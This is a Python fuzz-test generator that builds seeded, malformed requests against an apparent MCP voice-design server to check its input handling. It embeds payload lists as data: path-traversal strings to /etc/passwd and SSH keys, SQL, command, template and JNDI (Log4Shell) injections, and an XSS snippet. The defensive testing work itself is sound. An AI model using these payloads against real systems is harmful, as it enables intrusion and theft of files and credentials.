"""Requests that nobody should make: arguments, addresses and names made of what has broken other servers, seeded and endless."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Generator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

from clients import DESIGN

AWAY = (
    "../../../../../../../../etc/passwd", "/etc/passwd", "//etc/passwd", "file:///etc/passwd", "~/.ssh/id_rsa", "..", ".", "/",
    "\\", "..\\..\\..\\Windows\\win.ini", "C:\\Windows\\win.ini", "C:win.ini", "\\\\evil\\share\\x", "//evil/share/x", "CON",
    "nul.toml", "aux.", "a.toml", "../a", "a/../../b", "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc",
    "..%252f..%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd", "%00", "a%00.toml", "a\x00b", "..\x00/etc/passwd",
    "/proc/self/environ", "/dev/stdin", "/dev/tty", "pipe:", "fd:0", "data:,x", "s3://evil/x", "{canary}", "../{canary}",
    "{canary}.toml", "{data}", "{data}/voice-design.db", "../voice-design.db", "voice-design.db", "../casts/secret", "secret",
    "by-0/secret", "*", "?", "[a]",
)  # fmt: skip
"""Ways to a file that is nobody's business; `{canary}` is one that lies there, `{data}` the data folder."""
ODD = (
    "", " ", "\t\r\n", "\x00", "\x1b[31m", "\u202e", "\ufeff", "\u2028", "\ud800", "\udfff", "é", "e\u0301", "ﬀ", "İ", "\U0001f9d9",
    "人" * 90, "\U00020000" * 90, "a" * 70_000, "'; DROP TABLE holds; --", "' OR 1=1 --", "${jndi:ldap://evil/x}", "%s%n",
    "{0.__class__.__mro__}", "{{7*7}}", "<script>alert(1)</script>", "__proto__", "null", "NaN", "-0", "1e999", "0x10", "()",
    "$(id)", "`id`", "| id", "\\N{BULLET}", "apr_" + "0" * 32, "aud_" + "0" * 32, "hold_" + "0" * 16,
)  # fmt: skip
"""Texts that are something else to somebody."""
VALUES: tuple[Any, ...] = (  # pyright: ignore[reportUnknownVariableType] empty ones are of any kind
    None, True, False, 0, -1, 1, 2**31, 2**63, 2**64, 10**40, -(10**40), 0.0, -0.0, 1.5, 1e308, [], {}, [[]], [None], {"": ""},
    [{}] * 50, {"text": {"text": {"text": 1}}}, ["a", 1, None], {"a": [1]}, {"\ud800": "\ud800"}, json.loads("[" * 150 + "]" * 150),
)  # fmt: skip
"""What is no text at all."""


@dataclass(frozen=True)
class Place:
    """Where the server is put, and what is somebody else's on it."""

    data: str
    canary: str
    voice: str
    theirs: str
    audio: str
    approval: str


@dataclass(frozen=True)
class Case:
    """One request: a method and its parameters."""

    method: str
    params: dict[str, Any] = field(default_factory=dict[str, Any])


GOOD: Mapping[str, Mapping[str, Any]] = {
    "design_voice": DESIGN,
    "keep_voice": {"voice": "{voice}"},
    "list_voices": {"page_index": 0, "page_size": 10},
    "get_voice": {"voice": "{voice}"},
    "delete_voice": {"voice": "{voice}"},
    "synthesize": {"voice": "{voice}", "text": "Hello there.", "name": "hello", "response_format": "wav"},
    "narrate": {"script": "Alice: Who is it?\n\nBob: It is me.", "cast": "{voice}", "name": "play", "dry_run": True},
    "review_description": {"voice_prompt": DESIGN["voice_prompt"]},
    "get_spending": {},
    "read_audio": {"uri": "{audio}"},
}
"""For each tool a call that is as it should be: a case differs from it."""
NAMED = {
    "preferred_name",
    "target_model",
    "language",
    "take",
    "candidates",
    "approval",
    "sample_rate",
    "family",
    "instructions",
}
ADDRESSES = (
    "voice://{}",
    "voice://{}/preview",
    "voice://{}/waveform",
    "audio://{}",
    "audio://{}/subtitles.srt",
    "cast://{}",
    "ui://{}",
    "{}",
)
CASTS: tuple[Any, ...] = (
    "secret",
    {"narrator": "{voice}"},
    {"narrator": "{theirs}"},
    {"narrator": {"voice": "{voice}", "speed": 1.1}},
    {"a": {"voice": 1}},
)


def cases(seed: int, count: int, place: Place) -> Generator[Case]:
    """So many cases, always the same for a seed."""
    chance = random.Random(seed)  # noqa: S311 not for secrets
    makers: Sequence[Callable[[random.Random], Case]] = (
        _call,
        _call,
        _door,
        _name,
        _address,
        _address,
        _prompt,
        _completion,
        _shape,
    )
    for number in range(count):
        made = makers[number % len(makers)](chance)
        yield Case(made.method, put(made.params, place))


def _call(chance: random.Random) -> Case:
    """A tool with one to three arguments that are not as they should be."""
    name = chance.choice(list(GOOD))
    arguments = dict(GOOD[name])
    for _ in range(chance.randint(1, 3)):
        argument = (
            chance.choice([*arguments, *NAMED]) if arguments or chance.random() < 0.5 else chance.choice(list(NAMED))
        )
        arguments[argument] = chance.choice(CASTS) if argument == "cast" and chance.random() < 0.5 else _value(chance)
    if chance.random() < 0.05:
        arguments[_text(chance)[:100]] = _value(chance)
    if chance.random() < 0.05:
        arguments.pop(chance.choice(list(arguments)))
    return Case("tools/call", {"name": name, "arguments": arguments})


def _door(chance: random.Random) -> Case:
    """A way to a file where a cast's name, a cast or a voice is meant."""
    away = chance.choice(AWAY)
    if chance.random() < 0.5:
        return Case("resources/read", {"uri": f"cast://{quote(away, safe='{}')}"})
    tool, argument = chance.choice((("narrate", "cast"), ("synthesize", "voice"), ("get_voice", "voice")))
    return Case("tools/call", {"name": tool, "arguments": {**GOOD[tool], argument: away}})


def _name(chance: random.Random) -> Case:
    """A file's name that is not as it should be, in a call that is."""
    name = chance.choice(("synthesize", "narrate"))
    return Case("tools/call", {"name": name, "arguments": {**GOOD[name], "name": _text(chance)[:200]}})


def _address(chance: random.Random) -> Case:
    """A resource that is not there, or not the caller's, or no address at all."""
    inside = chance.choice(("{voice}", "{theirs}", _text(chance), _text(chance)))
    return Case("resources/read", {"uri": chance.choice(ADDRESSES).replace("{}", inside)})


def _prompt(chance: random.Random) -> Case:
    name = chance.choice(("design_character_voice", "cast_a_story", "narrate_document", _text(chance)))
    arguments = {
        key: _value(chance)
        for key in ("character", "story", "document", "voice", "cast", "language")
        if chance.random() < 0.6
    }
    return Case("prompts/get", {"name": name, "arguments": arguments})


def _completion(chance: random.Random) -> Case:
    uri = chance.choice((f"voice://{_text(chance)}", "voice://{voice}/preview"))
    name = chance.choice((_text(chance), "narrate_document"))
    ref = chance.choice(({"type": "ref/resource", "uri": uri}, {"type": "ref/prompt", "name": name}))
    argument = {"name": chance.choice(("voice", "cast", "language", "name", _text(chance))), "value": _value(chance)}
    return Case("completion/complete", {"ref": ref, "argument": argument})


def _shape(chance: random.Random) -> Case:
    """Parameters that have not even the shape of any."""
    method = chance.choice(
        (
            "tools/call",
            "resources/read",
            "prompts/get",
            "completion/complete",
            "resources/subscribe",
            _text(chance)[:40],
        )
    )
    return Case(
        method,
        {
            key: _value(chance)
            for key in ("name", "arguments", "uri", "ref", "argument", "cursor")
            if chance.random() < 0.5
        },
    )


def _value(chance: random.Random) -> Any:
    return chance.choice(VALUES) if chance.random() < 0.3 else _text(chance)


def _text(chance: random.Random) -> str:
    """A way out, an odd text, what is somebody else's, or two of them in one."""
    pool = chance.choice((AWAY, AWAY, ODD, ("{theirs}", "{audio}", "{approval}", "{voice}")))
    text = chance.choice(pool)
    return (
        text + chance.choice(("", "/", " ", "%00", ".toml")) + chance.choice((*AWAY, *ODD))
        if chance.random() < 0.3
        else text
    )


def put(value: Any, place: Place) -> Any:
    """The value with what the place has put where it belongs."""
    if isinstance(value, str):
        for name in Place.__dataclass_fields__:
            value = value.replace(f"{{{name}}}", getattr(place, name))
        return value
    if isinstance(value, dict):
        return {put(key, place): put(inner, place) for key, inner in value.items()}  # pyright: ignore[reportUnknownVariableType] JSON
    return [put(inner, place) for inner in value] if isinstance(value, list) else value  # pyright: ignore[reportUnknownVariableType] JSON
